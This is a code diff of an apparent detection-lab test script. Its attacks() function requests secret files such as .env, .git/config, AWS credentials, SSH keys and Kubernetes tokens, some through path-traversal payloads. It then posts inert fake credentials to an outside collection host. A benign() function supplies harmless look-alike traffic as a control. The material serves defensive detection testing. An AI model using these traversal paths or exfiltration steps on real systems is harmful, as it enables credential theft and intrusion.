@@ -35,7 +35,7 @@ def attacks(lab):
     """.env, .git, keys, tokens and state asked for by path; AWS, SSH, GitHub, Slack, kubeconfig, docker, shadow and pod secrets sent out"""
     web, drop = servers(lab)
     begin(lab)
-    for path in ("/.env", "/.git/config", "/files?name=../../home/app/.aws/credentials", "/static/../../root/.ssh/id_rsa", "/read?f=/var/run/secrets/kubernetes.io/serviceaccount/token",
+    for path in ("/.env", "/.git/config", "/files?name=../../home/app/.aws/credentials", "/static/../../root/.ssh/id_rsa", "/files?name=../../root/.docker/config.json", "/files?name=../../root/.kube/config", "/read?f=/var/run/secrets/kubernetes.io/serviceaccount/token",
                  "/read?f=/proc/self/environ", "/terraform.tfstate"):
         curl(drop, f"http://{web.ip}{path}")
     out = "http://203.0.113.9/in"
@@ -43,6 +43,7 @@ def attacks(lab):
         "[default]\naws_access_key_id = AKIAINERTINERTINERT1\naws_secret_access_key = inert0inert0inert0inert0inert0inert0iner\n",
         KEY,
         "GITHUB_TOKEN=ghp_inertinertinertinertinertinertinert1\n",
+        "GITHUB=github_pat_" + "inertinert1inertinert2" + "_" + "inert" * 11 + "iner" + "\n",
         "root:$y$j9T$inertinertinertinert$inertinertinertinertinertinertinertinert:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\n",
         "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n    client-key-data: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQppbmVydA==\n",
         '{"auths":{"registry.example.org":{"auth":"aW5lcnQ6aW5lcnQtaW5lcnQ="}}}',
@@ -61,13 +62,13 @@ def benign(lab):
     web, drop = servers(lab)
     user = lab.host("user", 30)
     begin(lab)
-    for path in ("/.environment", "/docs/.env.example", "/.github/workflows/ci.yml", "/docs/git/config.html", "/docs/.ssh/known_hosts", "/docs/secrets/kubernetes.io", "/proc/overview.html", "/files/tfstate-howto.html", "/.well-known/acme"):
+    for path in ("/.environment", "/docs/.env.example", "/.github/workflows/ci.yml", "/docs/git/config.html", "/docs/.ssh/known_hosts", "/docs/.ssh/id_card.png", "/docs/.aws/config", "/docs/.docker/config.md", "/docs/.kube/cache", "/docs/secrets/kubernetes.io", "/proc/overview.html", "/files/tfstate-howto.html", "/.well-known/acme"):
         curl(user, f"http://{web.ip}{path}")
     out = f"http://{web.ip}/notes"
     for body in (
         "set aws_secret_access_key in the file; keys begin with AKIA",
         "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\n-----END PUBLIC KEY-----\n-----BEGIN PRIVATE KEY----- is how the other one begins",
-        "GITHUB_TOKEN=ghp_xxx\n", "root:x:0:0:root:/root:/bin/bash\nroot:$HOME", "client-key-data: REDACTED\n", '{"auths":{"registry.example.org":{}}}', '{"type": "service_account_request", "id": "private_key_id"}',
+        "GITHUB_TOKEN=ghp_xxx\nOTHER=github_pat_xxx\n", "root:x:0:0:root:/root:/bin/bash\nroot:$HOME", "client-key-data: REDACTED\n", '{"auths":{"registry.example.org":{}}}', '{"type": "service_account_request", "id": "private_key_id"}',
         "KUBERNETES_SERVICE_HOST is set in each pod", "SLACK=xoxb-your-token",
     ):
         curl(user, out, body, headers=TEXT)
